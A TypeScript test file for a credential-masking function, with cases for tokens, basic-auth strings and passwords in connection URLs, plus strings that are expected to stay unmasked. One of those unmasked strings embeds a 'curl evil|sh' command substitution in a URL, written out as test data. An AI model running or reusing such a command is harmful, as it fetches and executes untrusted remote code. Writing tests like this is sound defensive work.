import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { maskText } from '../../../src/core/mask/text.ts';
import { bare } from '../../support/masks.ts';

describe('credentials of requests', () => {
  const hidden: [string, string][] = [
    ['Authorization: Bearer abcdef0123456789', 'Authorization: Bearer ••••••'],
    ['Authorization: Basic dXNlcjpwYXNz', 'Authorization: Basic ••••••'],
    ["-H 'authorization: token 8f14e45fceea167a5a36'", "-H 'authorization: token ••••••'"],
    ['postgres://app:hunter22@db/main', 'postgres://app:••••••@db/main'],
    ['redis://:p@ss@cache:6379', 'redis://:••••••@cache:6379'],
    ['https://8f14e45fceea167a5a36dedd@git.test/x', 'https://••••••@git.test/x'],
  ];
  for (const [text, masked] of hidden) test(`hidden: ${text}`, () => assert.equal(bare(maskText(text).value), masked));

  const facts = [
    'Basic understanding of the rules',
    'Basic Authentication is used',
    'Bearer of bad news',
    'http://host:8080/path?mail=a@b.test',
    'https://user@host/path',
    'ssh://git@github.com:22/x',
    'http://a:$(curl evil|sh)@b',
    'mail://a:b c@d',
  ];
  for (const text of facts) test(`a fact: ${text}`, () => assert.equal(maskText(text).value, text));
});
